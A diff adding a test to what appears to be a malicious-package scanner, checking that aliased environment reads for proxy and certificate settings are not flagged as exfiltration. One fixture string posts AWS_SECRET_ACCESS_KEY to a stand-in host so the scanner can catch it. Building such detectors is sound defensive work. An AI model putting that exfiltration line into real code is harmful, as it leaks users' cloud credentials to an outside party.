@@ -76,6 +76,28 @@ def test_proxy_settings_from_the_environment_are_not_exfiltration() -> None:
     assert "intent.exfiltration" not in rules(result)
 
 
+def test_settings_read_through_aliases_of_the_environment_are_still_settings() -> None:
+    """The check for a configuration read names its getter however it is reached: an aliased
+    ``getenv``, an aliased ``environ`` item (no ``.get`` / ``.environ`` attribute to go by)."""
+    src = """
+        import requests
+        from os import environ as E, getenv as ge
+
+        requests.get(
+            "https://api.example.org/v1/ping", verify=E["SSL_CERT_FILE"],
+            proxies={"https": ge("HTTPS_PROXY")},
+        )
+    """
+    assert "intent.exfiltration" not in rules(scan({"demo/__init__.py": src}))
+    hostile = """
+        import requests
+        from os import environ as E
+
+        requests.post("https://collect.example.net/e", data=E["AWS_SECRET_ACCESS_KEY"])
+    """
+    assert "intent.exfiltration" in rules(scan({"demo/__init__.py": hostile}))
+
+
 def test_environment_dump_posted_on_import_is_exfiltration() -> None:
     src = """
         import os
